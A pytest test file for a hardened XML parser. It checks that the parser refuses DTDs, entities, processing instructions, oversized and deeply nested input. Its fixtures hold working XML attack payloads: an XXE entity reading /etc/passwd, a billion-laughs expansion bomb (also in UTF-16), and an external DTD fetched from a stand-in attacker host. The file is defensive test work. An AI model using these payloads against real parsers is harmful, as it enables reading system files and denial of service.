"""Hardened parsing: what the bench refuses, and with which error key."""
from __future__ import annotations

import threading

import pytest

from simulators.xml import MAX_BYTES, XmlRejected, parse_xml, xml_safe

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<lolz>&lol9;</lolz>"""


def rejected(data: bytes, **limits) -> XmlRejected:
    with pytest.raises(XmlRejected) as info:
        parse_xml(data, **limits)
    return info.value


def test_parses_a_plain_document_with_comments_and_declaration():
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- hello --><a xmlns="urn:x"><b>t\xc3\xa9</b></a>')
    assert root.tag == "{urn:x}a"
    assert root[0].text == "té"


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS], ids=["xxe", "billion-laughs"])
def test_dtd_attacks_are_refused_before_parsing(document):
    error = rejected(document)
    assert error.key == "request.forbidden_construct"
    assert "DOCTYPE" in error.message


def test_external_dtd_reference_is_refused():
    error = rejected(b'<!DOCTYPE a SYSTEM "http://attacker.invalid/evil.dtd"><a/>')
    assert error.key == "request.forbidden_construct"


def test_utf16_billion_laughs_is_refused_without_expansion():
    """The byte scan cannot see a UTF-16 DOCTYPE; the parser resolves nothing and the DTD check refuses it."""
    document = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    error = rejected(document.decode().encode("utf-16"))
    assert error.key == "request.forbidden_construct"
    assert "DTD" in error.message


def test_entity_declaration_outside_a_doctype_is_refused():
    assert rejected(b'<a><!ENTITY x "y"></a>').key == "request.forbidden_construct"


def test_undeclared_entity_reference_is_malformed():
    assert rejected(b"<a>&undeclared;</a>").key == "request.malformed_xml"


def test_processing_instruction_is_refused():
    error = rejected(b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a><?pi data?></a>')
    assert error.key == "request.forbidden_construct"
    assert "processing instruction" in error.message


def test_oversized_body_is_refused_with_the_limit_in_the_message():
    error = rejected(b"<a>" + b"x" * MAX_BYTES + b"</a>")
    assert error.key == "request.too_large"
    assert str(MAX_BYTES) in error.message
    assert rejected(b"<a>xxxx</a>", max_bytes=5).key == "request.too_large"


@pytest.mark.parametrize("depth, refused", [(64, False), (65, True), (300, True)])
def test_nesting_depth_is_bounded(depth, refused):
    document = b"<a>" * depth + b"</a>" * depth
    if refused:
        error = rejected(document)
        assert error.key == "request.forbidden_construct"
        assert "64" in error.message
    else:
        assert parse_xml(document).tag == "a"


def test_depth_limit_is_configurable():
    assert rejected(b"<a><b><c/></b></a>", max_depth=2).key == "request.forbidden_construct"
    assert parse_xml(b"<a><b><c/></b></a>", max_depth=3).tag == "a"


@pytest.mark.parametrize(
    "data", [b"", b"   \n", b"hello, not xml", b"<a><b></a>", b'{"json": true}', b"\xff\xfe\x00garbage"]
)
def test_non_xml_is_malformed(data):
    assert rejected(data).key == "request.malformed_xml"


def test_text_input_is_refused_with_a_clear_message():
    error = rejected("<a/>")
    assert error.key == "request.malformed_xml"
    assert "bytes" in error.message


def test_parsers_are_safe_to_use_from_several_threads():
    results: list[str] = []

    def work(index: int) -> None:
        for _ in range(50):
            results.append(parse_xml(f"<t{index}><v>{index}</v></t{index}>".encode()).tag)

    threads = [threading.Thread(target=work, args=(i,), daemon=True) for i in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=10)
    assert sorted(set(results)) == ["t0", "t1", "t2", "t3"]
    assert len(results) == 200


def test_xml_safe_replaces_characters_xml_cannot_carry():
    assert xml_safe("a\x00b\x1fc\td\n") == "a\ufffdb\ufffdc\td\n"
